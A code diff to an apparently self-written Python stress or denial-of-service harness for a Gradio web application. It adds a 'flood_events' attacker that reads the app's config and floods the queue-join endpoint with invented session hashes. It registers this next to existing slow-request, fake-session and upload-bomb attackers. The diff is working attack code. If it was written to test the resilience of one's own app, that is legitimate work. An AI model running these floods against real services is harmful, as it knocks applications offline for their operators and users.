@@ -39,6 +39,18 @@ async def invent_sessions(client: httpx.AsyncClient, answers: Counter[str]) -> N
         answers[f"invented: {answered.status_code}"] += 1
 
 
+async def flood_events(client: httpx.AsyncClient, answers: Counter[str]) -> None:
+    """Joins a cheap private event to gradio's queue, each time with an invented session."""
+    config = (await client.get("/config")).json()
+    restore = next(one for one in config["dependencies"] if one["api_name"] == "restore")
+    values = {one["id"]: one["props"].get("value") for one in config["components"]}
+    data = [values.get(one) for one in restore["inputs"]]
+    for _ in range(BURST):
+        body = {"data": data, "fn_index": restore["id"], "session_hash": secrets.token_hex(6)}
+        answered = await client.post("/gradio_api/queue/join", json=body)
+        answers[f"flooded: {answered.status_code}"] += 1
+
+
 async def half_a_request(client: httpx.AsyncClient, answers: Counter[str]) -> None:
     """Opens connections and sends the beginning of a request on each."""
     address = urlsplit(str(client.base_url))
@@ -84,7 +96,13 @@ async def upload_bombs(client: httpx.AsyncClient, answers: Counter[str]) -> None
                     break
 
 
-ATTACKERS: tuple[Attacker, ...] = (ask_and_never_listen, invent_sessions, half_a_request, upload_bombs)
+ATTACKERS: tuple[Attacker, ...] = (
+    ask_and_never_listen,
+    invent_sessions,
+    flood_events,
+    half_a_request,
+    upload_bombs,
+)
 
 
 async def attack(
